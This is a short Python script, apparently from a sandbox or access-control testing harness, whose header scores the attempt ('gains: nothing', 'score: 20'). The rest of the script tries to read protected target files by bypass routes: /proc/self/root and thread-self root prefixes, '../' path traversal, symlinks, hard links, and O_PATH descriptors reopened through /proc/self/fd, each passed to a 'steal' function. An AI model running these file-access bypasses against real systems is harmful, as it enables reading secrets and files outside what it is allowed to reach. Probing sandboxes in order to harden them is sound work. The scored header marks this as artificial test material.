"""Take other ways to the same files: /proc/self/root, /proc/self/cwd/.., links, openat, mmap.

gains: nothing
score: 20
outcome: completed
"""

import os

from kit import TARGETS, attempt, drive, steal

for path in TARGETS.get("files", ()):
    steal(f"/proc/self/root{path}")
    steal(f"/proc/thread-self/root{path}")
    steal("../" * 20 + path.lstrip("/"))
    with attempt():
        os.symlink(path, "link")
        steal("link")
        os.unlink("link")
    with attempt():
        os.link(path, "hard")
        steal("hard")
    with attempt():
        root = os.open("/", os.O_PATH)
        steal(f"/proc/self/fd/{os.open(path.lstrip('/'), os.O_RDONLY, dir_fd=root)}")
    with attempt():
        handle = os.open(path, os.O_PATH)
        steal(f"/proc/self/fd/{handle}")
drive()
